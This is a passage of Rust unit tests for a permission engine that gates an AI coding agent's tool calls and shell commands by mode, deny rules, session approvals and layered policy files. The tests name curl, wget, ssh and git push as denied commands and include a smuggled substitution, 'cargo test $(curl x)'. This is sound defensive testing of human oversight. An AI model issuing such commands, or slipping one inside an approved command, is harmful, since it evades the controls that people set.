            in_mode(&rules, Mode::Plan, "edit_file"),
            deny("mode:plan (read-only; rule:tool:edit_file says allow)")
        );
        assert_eq!(in_mode(&rules, Mode::Plan, "write_file").decision, Decision::Deny);
        assert_eq!(cmd_in(&rules, Mode::Plan, "cargo test").decision, Decision::Deny);
        // A deny rule keeps its own source.
        assert_eq!(cmd_in(&rules, Mode::Plan, "curl x"), deny("rule:command:curl"));
        // A tool policy allows but that is not known to be read-only is refused too.
        rules.tools.push(("web_fetch".into(), Decision::Allow));
        assert!(in_mode(&rules, Mode::Plan, "web_fetch").source.starts_with("mode:plan"));
    }

    #[test]
    fn edits_mode_frees_edits_but_not_commands() {
        let rules = person();
        assert_eq!(in_mode(&rules, Mode::Edits, "edit_file"), allow("mode:edits (rule:tool:edit_file says ask)"));
        assert_eq!(in_mode(&rules, Mode::Edits, "write_file"), allow("mode:edits (rule:tool:write_file says ask)"));
        assert_eq!(cmd_in(&rules, Mode::Edits, "cargo test").decision, Decision::Ask);
        assert_eq!(in_mode(&rules, Mode::Edits, "format_disk"), deny("default:tool"));
        // A deny rule on an edit tool wins.
        let mut strict = rules.clone();
        strict.tools.retain(|(t, _)| t != "write_file");
        strict.tools.push(("write_file".into(), Decision::Deny));
        assert_eq!(in_mode(&strict, Mode::Edits, "write_file"), deny("rule:tool:write_file"));
        // Headless, edits still run; commands are denied as before.
        let headless = Rules::default();
        assert_eq!(in_mode(&headless, Mode::Edits, "edit_file").decision, Decision::Allow);
        assert!(cmd_in(&headless, Mode::Edits, "ls").source.starts_with("mode:headless"));
    }

    #[test]
    fn auto_mode_runs_what_asks_but_never_loosens_a_deny() {
        let rules = person();
        assert_eq!(cmd_in(&rules, Mode::Auto, "cargo test"), allow("mode:auto (rule:tool:run_command says ask)"));
        assert_eq!(in_mode(&rules, Mode::Auto, "edit_file"), allow("mode:auto (rule:tool:edit_file says ask)"));
        assert_eq!(in_mode(&rules, Mode::Auto, "format_disk"), deny("default:tool"));
        for (c, rule) in [
            ("git push origin main", "rule:command:git push"),
            ("env curl http://x", "rule:command:curl"),
            ("sh -c 'wget x'", "rule:command:wget"),
        ] {
            assert_eq!(cmd_in(&rules, Mode::Auto, c), deny(rule), "{c}");
        }
        // Compound: one denied part denies the whole command.
        let mixed = cmd_in(&rules, Mode::Auto, "cargo test && ssh host");
        assert_eq!(mixed, deny("rule:command:ssh (in a compound command)"));
        assert_eq!(
            cmd_in(&rules, Mode::Auto, "cargo build && cargo test"),
            allow("mode:auto (rule:tool:run_command says ask)")
        );
        // What cannot be known is still put to a person, or denied headless.
        assert_eq!(cmd_in(&rules, Mode::Auto, "$CMD x").decision, Decision::Ask);
        assert_eq!(cmd_in(&rules, Mode::Auto, "echo 'open").decision, Decision::Ask);
        assert_eq!(cmd_in(&Rules::default(), Mode::Auto, "$CMD x").decision, Decision::Deny);
        let tool_denied = Rules { tools: vec![("run_command".into(), Decision::Deny)], ..person() };
        assert_eq!(cmd_in(&tool_denied, Mode::Auto, "ls"), deny("rule:tool:run_command"));
    }

    #[test]
    fn session_approvals_turn_asks_into_allows() {
        let mut rules = person();
        rules.allow_for_session(Grant::Prefix("  cargo   test ".into()));
        rules.allow_for_session(Grant::Tool("edit_file".into()));
        rules.allow_for_session(Grant::Exact("python3 t.py > out.txt".into()));
        rules.allow_for_session(Grant::Prefix("cargo test".into()));
        rules.allow_for_session(Grant::Prefix(" ".into()));
        assert_eq!(rules.session.len(), 3, "normalized, deduplicated, empty dropped: {:?}", rules.session);

        assert_eq!(cmd(&rules, "cargo test -p x"), allow("approved:session:cargo test"));
        assert_eq!(cmd(&rules, "cargo testy").decision, Decision::Ask, "whole words");
        assert_eq!(in_mode(&rules, Mode::Ask, "edit_file"), allow("approved:session:edit_file"));
        assert_eq!(in_mode(&rules, Mode::Ask, "write_file").decision, Decision::Ask);
        assert_eq!(cmd(&rules, " python3 t.py > out.txt"), allow("approved:session:exact:python3 t.py > out.txt"));
        assert_eq!(cmd(&rules, "python3 t.py").decision, Decision::Ask, "an exact approval is not a prefix");
        assert_eq!(cmd(&rules, "python3 t.py -v").decision, Decision::Ask);
        // Compound: every part covered, or it is asked.
        assert_eq!(cmd(&rules, "cargo test && python3 t.py -v").decision, Decision::Ask);
        rules.allow_for_session(Grant::Exact("cargo fmt".into()));
        assert_eq!(cmd(&rules, "cargo fmt && cargo test -q"), allow("approved:session:exact:cargo fmt+cargo test"));
        // Deny rules still win; what cannot be known is never covered.
        assert_eq!(cmd(&rules, "cargo test && curl x").decision, Decision::Deny);
        assert_eq!(cmd(&rules, "cargo test $(curl x)").decision, Decision::Deny);
        assert_eq!(cmd(&rules, "cargo $T").decision, Decision::Ask, "an expansion is not the approved word");
        // With a --grant, both are named.
        rules.granted.push("make".into());
        assert_eq!(cmd(&rules, "make && cargo test"), allow("granted:make+approved:session:cargo test"));

        let mut any = person();
        any.allow_for_session(Grant::Tool("run_command".into()));
        assert_eq!(cmd(&any, "ls -la | wc -l"), allow("approved:session:run_command"));
        assert_eq!(cmd(&any, "ls; curl x").decision, Decision::Deny);
        assert_eq!(cmd(&any, "$CMD").decision, Decision::Ask);
        // An approval also lets a headless session run it.
        let mut headless = Rules::default();
        headless.allow_for_session(Grant::Prefix("cargo test".into()));
        assert_eq!(cmd(&headless, "cargo test").source, "approved:session:cargo test");
    }

    #[test]
    fn rules_from_policy_follow_the_layers() {
        let cx = airlock_policy::Context { home: "/home/u".into(), workspace: "/home/u/work".into() };
        let defaults = Rules::from_policy(&Policy::defaults(&cx));
        let built_in = Rules::default();
        assert_eq!(defaults.tools, built_in.tools);
        assert_eq!(defaults.commands, built_in.commands);
        assert_eq!((defaults.default_tool, defaults.default_command), (Decision::Deny, Decision::Ask));
        assert!(defaults.headless);
        assert_eq!(allowed_modes(&Policy::defaults(&cx)), Mode::ALL);
        assert_eq!(default_mode(&Policy::defaults(&cx)), Mode::Ask);

        let dir = tempfile::tempdir().unwrap();
        let managed = dir.path().join("policy.toml");
        fs_err_write(&managed, "[commands]\n\"cargo publish\" = \"deny\"\n[tools]\nrun_command = \"allow\"\n");
        let files = airlock_policy::PolicyFiles {
            managed: managed.clone(),
            user: None,
            project: dir.path().join("project.toml"),
        };
        let policy = Policy::load(&files, &cx).unwrap();
        let rules = Rules { headless: false, ..Rules::from_policy(&policy) };
        assert_eq!(cmd(&rules, "cargo publish --dry-run"), deny("rule:command:cargo publish"));
        assert_eq!(cmd(&rules, "ls").decision, Decision::Ask, "tool allows, default command asks");

        let mut rules = rules;
        rules.granted.push("make".into());
        rules.allow_for_session(Grant::Prefix("cargo test".into()));
        let lines = rules.in_force();
        let find = |subject: Subject| lines.iter().find(|l| l.subject == subject).unwrap().clone();
        let publish = find(Subject::Command("cargo publish".into()));
        assert_eq!(publish.decision, Decision::Deny);
        assert_eq!(publish.source, format!("managed policy {}:2:1", managed.display()));
        assert_eq!(
            find(Subject::Tool("run_command".into())).source,
            format!("managed policy {}:4:1", managed.display())
        );
        assert_eq!(find(Subject::Command("curl".into())).source, "built-in default");
        assert_eq!(find(Subject::DefaultTool).decision, Decision::Deny);
        assert_eq!(find(Subject::Granted("make".into())).source, "command line (--grant)");
        let session = find(Subject::Session(Grant::Prefix("cargo test".into())));
        assert_eq!((session.decision, session.source.as_str()), (Decision::Allow, "approved for this session"));
        assert_eq!(Rules::default().in_force().len(), 2 + 8 + 5);
    }

    fn fs_err_write(path: &Path, text: &str) {
        std::fs::write(path, text).unwrap();
    }

    #[test]
    fn session_grants_offer_the_exact_line_then_each_prefix() {
        let offer = |c: &str| session_grants("run_command", &serde_json::json!({ "command": c }));
        let p = |s: &str| Grant::Prefix(s.into());
        assert_eq!(offer(" cargo test -p x "), [Grant::Exact("cargo test -p x".into()), p("cargo test")]);
        assert_eq!(offer("python3 t.py")[1..], [p("python3")]);
        assert_eq!(offer("ls -la | wc -l")[1..], [p("ls"), p("wc")]);
        assert_eq!(offer("git -C . commit -m x")[1..], [p("git commit")]);
        assert_eq!(offer("timeout 5 make check && make check")[1..], [p("make check")]);
        assert!(offer("$CMD x").is_empty());
        assert!(offer("echo 'open").is_empty());
        assert!(offer("").is_empty());
        assert_eq!(session_grants("edit_file", &Value::Null), [Grant::Tool("edit_file".into())]);

        // The exact line alone covers the call; so do all its prefixes together.
        for c in ["cargo test -p x", "ls -la | wc -l", "git -C . commit -m x"] {
            let offered = offer(c);
            let mut exact = person();
            exact.allow_for_session(offered[0].clone());
            let mut prefixes = person();
            for grant in &offered[1..] {
                prefixes.allow_for_session(grant.clone());
            }
            for rules in [exact, prefixes] {
                let d = cmd(&rules, c);
                assert_eq!(d.decision, Decision::Allow, "{c} with {:?}: {}", rules.session, d.source);
            }
        }
    }

    /// Whatever a project config says, if it loads, no call is decided more
    /// loosely than without it: checked through `decide`, for every project
    /// file of one or two rules drawn from a list meant to find holes
    /// (longer prefixes under deny rules, shorter ones over them, defaults).
    #[test]
    fn no_project_config_that_loads_loosens_a_decision() {
        let dir = tempfile::tempdir().unwrap();
        let cx = airlock_policy::Context { home: "/home/u".into(), workspace: "/home/u/work".into() };
        let user = dir.path().join("user.toml");
        // A user config with rules of each kind for the project to try to undo.
        std::fs::write(
            &user,
            "[commands]\ncargo = \"allow\"\n\"cargo publish\" = \"deny\"\n[tools]\nrun_command = \"allow\"\n",
        )
        .unwrap();
        let files = airlock_policy::PolicyFiles {
            managed: dir.path().join("none.toml"),
            user: Some(user),
            project: dir.path().join("project.toml"),
        };
        let base = Rules { headless: false, ..Rules::from_policy(&Policy::load(&files, &cx).unwrap()) };
        let calls: Vec<(&str, &str)> = vec![
            ("run_command", "git push"),
            ("run_command", "git push --dry-run"),
            ("run_command", "git status"),
            ("run_command", "cargo test -p x"),
            ("run_command", "cargo publish --dry-run"),
            ("run_command", "cargo publish"),
            ("run_command", "curl x"),
            ("run_command", "ls && cargo build"),
            ("run_command", "make check"),
            ("edit_file", ""),
            ("read_file", ""),
            ("web_fetch", ""),
        ];
        let patterns = [
            ("commands", "default"),
            ("commands", "\"git\""),
            ("commands", "\"git push --dry-run\""),
            ("commands", "\"/usr/bin/git push --dry-run\""),
            ("commands", "\"/bin/curl x\""),
            ("commands", "\"cargo\""),
            ("commands", "\"cargo publish\""),
            ("commands", "\"cargo publish --dry-run\""),
            ("commands", "\"cargo test\""),
            ("commands", "\"curl\""),
            ("commands", "\"ls\""),
            ("commands", "\"make\""),
            ("tools", "default"),
            ("tools", "run_command"),
            ("tools", "edit_file"),
            ("tools", "web_fetch"),
        ];
        let mut lines = Vec::new();
        for (table, key) in patterns {
            for permission in ["allow", "ask", "deny"] {
                lines.push(format!("[{table}]\n{key} = \"{permission}\"\n"));
            }
        }
        let (mut loaded, mut refused) = (0, 0);
        for (i, a) in lines.iter().enumerate() {
            for b in &lines[i..] {
                let text = if a == b { a.clone() } else { format!("{a}{b}") };
                std::fs::write(&files.project, &text).unwrap();
                let Ok(policy) = Policy::load(&files, &cx) else {
                    refused += 1;
                    continue;
                };
                loaded += 1;
                let rules = Rules { headless: false, ..Rules::from_policy(&policy) };
                for (tool, command) in &calls {
                    let args = serde_json::json!({ "command": command });
                    let (before, after) = (decide(&base, tool, &args), decide(&rules, tool, &args));
                    assert!(
                        rank(after.decision) >= rank(before.decision),
                        "{text}loosened {tool} {command:?}: {before:?} -> {after:?}"
                    );
                }
            }
        }
        // Both outcomes happen, so the test covers something.
        assert!(loaded > 50 && refused > 50, "loaded {loaded}, refused {refused}");
    }
}
